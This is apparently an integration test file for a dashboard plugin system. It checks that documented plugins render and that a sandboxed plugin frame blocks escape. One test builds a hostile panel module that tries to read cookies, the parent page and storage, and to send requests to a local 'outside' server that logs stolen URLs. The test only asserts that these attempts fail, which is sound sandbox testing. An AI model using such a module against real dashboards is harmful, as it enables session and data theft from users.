import { execFileSync } from "node:child_process";
import { readFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import { join } from "node:path";
import type { Browser } from "playwright-core";
import { afterAll, beforeAll, expect, test } from "vitest";
import { dashboardsArguments } from "../support/dashboards-arguments.ts";
import { eventually } from "../support/eventually.ts";
import { launchBrowser, openPage } from "../support/headless-browser.ts";
import { freePort } from "../support/ports.ts";
import { lacks } from "../support/requirements.ts";
import { launcher, narthex, root, type Running } from "../support/running.ts";
import { Workplace } from "../support/workplace.ts";

const absent = lacks("browser");
let workplace: Workplace;
const programs: Running[] = [];
let browser: Browser;
let base: string;
/** A server to which a hostile panel tries to send data. */
let outside: Server;
let outsideUrl: string;
const stolen: string[] = [];

async function start(args: readonly string[], readyUrl: string): Promise<void> {
  const program = narthex([...args]);
  programs.push(program);
  await program.ready(readyUrl);
}

async function post(path: string, body: object): Promise<Response> {
  const headers = { "content-type": "application/json" };
  return fetch(`${base}${path}`, { method: "POST", headers, body: JSON.stringify(body) });
}

/** Writes both plugins as docs/plugins.md describes, and installs them. */
function followPage(): void {
  const run = (...args: string[]): string =>
    execFileSync(launcher, ["plugin", ...args], { cwd: workplace.folder, encoding: "utf8" });
  run("create", "calendar-of-days", "--kind", "panel");
  run("create", "pushgateway-groups", "--kind", "source");
  const page = readFileSync(join(root, "docs/plugins.md"), "utf8");
  for (const [, file, content] of page.matchAll(/`([a-z-]+\/[a-z.]+)`:\n\n```(?:js|json)\n(.*?)```/gs))
    workplace.write(file!, content!);
  for (const id of ["calendar-of-days", "pushgateway-groups"]) {
    const sha256 = run("pack", id).slice(0, 64);
    run("install", `${id}-1.0.0.tgz`, "--sha256", sha256, "--plugins-dir", "plugins");
  }
}

/** Module of a panel that tries to leave its frame, and then shows what it has reached. */
const hostileModule = (url: string): string => `
export async function render(element, input, actions) {
  const tries = {
    cookie: () => document.cookie,
    parent: () => parent.document.title,
    storage: () => localStorage.length,
    role: async () => (await fetch("${base}/api/user")).status,
    outside: async () => (await fetch("${url}/fetch")).status,
    socket: () => new Promise((resolve, reject) => { const s = new WebSocket("${url.replace("http", "ws")}/socket"); s.onopen = resolve; s.onerror = () => reject(new Error("no")); }),
    image: () => new Promise((resolve, reject) => { const i = new Image(); i.onload = resolve; i.onerror = () => reject(new Error("no")); i.src = "${url}/image"; }),
    rtc: () => new RTCPeerConnection(),
    script: () => import("${url}/script.js"),
    top: () => { top.location = "${url}/top"; },
    popup: () => { if (window.open("${url}/popup") === null) throw new Error("no"); },
  };
  actions.openLink("${url}/link");
  actions.setTimeRange({ from: 0, to: 1000 });
  const reached = [];
  for (const [name, run] of Object.entries(tries)) try { await run(); reached.push(name); } catch {}
  console.log("reached: " + reached.join(", "));
  if (input.options.leave) location.href = "${url}/leave";
}`;

const DAY_MS = 86_400_000;

const dashboard = {
  uid: "plugged",
  title: "Plugged",
  schemaVersion: 43,
  time: { from: "2026-01-01T00:00:00Z", to: "2026-01-08T00:00:00Z" },
  timezone: "utc",
  panels: [
    {
      id: 1,
      type: "calendar-of-days",
      title: "Days",
      gridPos: { x: 0, y: 0, w: 12, h: 8 },
      datasource: { type: "grafana-testdata-datasource", uid: "td" },
      targets: [{ refId: "A", scenarioId: "csv_content", csvContent: `time,orders\n${Date.UTC(2026, 0, 3)},7` }],
    },
    {
      id: 2,
      type: "table",
      title: "Groups",
      gridPos: { x: 12, y: 0, w: 12, h: 8 },
      datasource: { type: "pushgateway-groups", uid: "groups" },
      targets: [{ refId: "A", metric: "files_saved" }],
    },
  ],
};

beforeAll(async () => {
  if (absent) return;
  workplace = new Workplace();
  const [gateway, role] = [await freePort(), await freePort()];
  base = `http://127.0.0.1:${role}`;
  outside = createServer((request, response) => {
    stolen.push(request.url ?? "");
    response.writeHead(200, { "access-control-allow-origin": "*", "content-type": "text/javascript" }).end("1");
  });
  await new Promise<void>((resolve) => outside.listen(0, "127.0.0.1", resolve));
  outsideUrl = `http://127.0.0.1:${(outside.address() as { port: number }).port}`;
  followPage();
  const hostile = { contract: 1, id: "hostile", kind: "panel", name: "Hostile", version: "1.0.0", entry: "module.js" };
  const options = [{ key: "leave", label: "Leave", type: "switch" }];
  workplace.write("plugins/hostile/plugin.json", JSON.stringify({ ...hostile, options }));
  workplace.write("plugins/hostile/module.js", hostileModule(outsideUrl));
  workplace.write(
    "provisioning/datasources/all.yml",
    `apiVersion: 1\ndatasources:\n- {name: Made up, type: grafana-testdata-datasource, uid: td}\n- {name: Groups, type: pushgateway-groups, uid: groups, url: 'http://127.0.0.1:${gateway}'}\n`,
  );
  await start(["pushgateway", `--web.listen-address=127.0.0.1:${gateway}`], `http://127.0.0.1:${gateway}/-/ready`);
  await fetch(`http://127.0.0.1:${gateway}/metrics/job/backup`, { method: "POST", body: "files_saved 42\n" });
  await start(
    dashboardsArguments(workplace, role, [
      "auth.anonymous.enabled=true",
      "auth.anonymous.org_role=Admin",
      `paths.plugins=${workplace.path("plugins")}`,
      "plugins.reload=true",
    ]),
    `${base}/api/health`,
  );
  const panel = { ...dashboard.panels[0], type: "hostile", options: {} };
  for (const [uid, panels] of [
    ["hostile", [panel]],
    ["leaving", [{ ...panel, options: { leave: true } }]],
  ] as const)
    await post("/api/dashboards/db", { dashboard: { ...dashboard, uid, title: uid, panels } });
  await post("/api/dashboards/db", { dashboard });
  browser = await launchBrowser();
});

afterAll(async () => {
  await browser?.close();
  outside?.close();
  for (const program of programs.toReversed()) await program[Symbol.asyncDispose]();
  workplace?.[Symbol.dispose]();
});

test.skipIf(absent)("both plugins of the documentation work: a query is answered, and a panel is drawn", async () => {
  const health = await fetch(`${base}/api/datasources/uid/groups/health`);
  expect(await health.json()).toMatchObject({ status: "OK", message: "The Pushgateway has 1 groups." });
  const { page, errors } = await openPage(browser, `${base}/d/plugged`);
  await page.locator('[data-panel-type="table"]').getByText("backup").waitFor();
  await page.locator('[data-panel-type="table"]').getByText("42", { exact: true }).waitFor();
  const days = page.frameLocator('[data-panel-plugin="calendar-of-days"] iframe').getByRole("button");
  await days.first().waitFor();
  expect(await days.allTextContents()).toEqual(["01", "02", "03", "04", "05", "06", "07"]);
  expect(await days.nth(2).getAttribute("title")).toBe("2026-01-03: 7");
  await days.nth(2).click();
  await page.waitForURL((url) => url.searchParams.get("from") === String(Date.UTC(2026, 0, 3)));
  expect(new URL(page.url()).searchParams.get("to")).toBe(String(Date.UTC(2026, 0, 3) + DAY_MS));
  expect(errors).toEqual([]);
  await page.close();
});

test.skipIf(absent)("a changed module is drawn on an open page", async () => {
  const { page } = await openPage(browser, `${base}/d/plugged`);
  const frame = page.frameLocator('[data-panel-plugin="calendar-of-days"] iframe');
  await frame.getByRole("button").first().waitFor();
  const module = workplace.path("plugins/calendar-of-days/module.js");
  const before = readFileSync(module, "utf8");
  workplace.write("plugins/calendar-of-days/module.js", before.replace("day.slice(-2)", '"day " + day.slice(-2)'));
  await frame.getByText("day 03").waitFor();
  workplace.write("plugins/calendar-of-days/module.js", "export function render() { throw new Error('not today') }");
  await page.getByText("cannot show the panel: not today").waitFor();
  workplace.write("plugins/calendar-of-days/module.js", before);
  await frame.getByText("03", { exact: true }).waitFor();
  await page.close();
});

test.skipIf(absent)("a hostile panel reaches neither the page nor the role nor other servers", async () => {
  // The tool of the test counts as a click of the user when it reads the page, so the plugin writes to the console.
  const visit = async (uid: string) => {
    const page = await browser.newPage();
    const said = page.waitForEvent("console", (message) => message.text().startsWith("reached:"));
    await page.goto(`${base}/d/${uid}`);
    return { page, text: (await said).text() };
  };
  const { page, text } = await visit("hostile");
  expect(text).toBe("reached: ");
  const { page: other, text: same } = await visit("leaving");
  expect(same).toBe(text);
  await eventually("the frame stays or is blocked", async () => {
    expect(
      other
        .frames()
        .map((frame) => frame.url())
        .join(" "),
    ).not.toContain(outsideUrl);
  });
  for (const one of [page, other]) {
    expect(one.context().pages()).toHaveLength(1);
    expect(new URL(one.url()).searchParams.get("from")).not.toBe("0");
    expect(one.url()).toContain(base);
    await one.close();
  }
  expect(stolen).toEqual([]);
});

test.skipIf(absent)("a page without plugins sends no request for them", async () => {
  const panels = [dashboard.panels[1]];
  await post("/api/dashboards/db", { dashboard: { ...dashboard, uid: "plain", title: "Plain", panels } });
  const page = await browser.newPage();
  const asked: string[] = [];
  page.on("request", (request) => asked.push(request.url()));
  await page.goto(`${base}/d/plain`);
  await page.locator('[data-panel-type="table"]').getByText("backup").waitFor();
  expect(asked.filter((url) => url.includes("plugin"))).toEqual([]);
  await page.close();
});
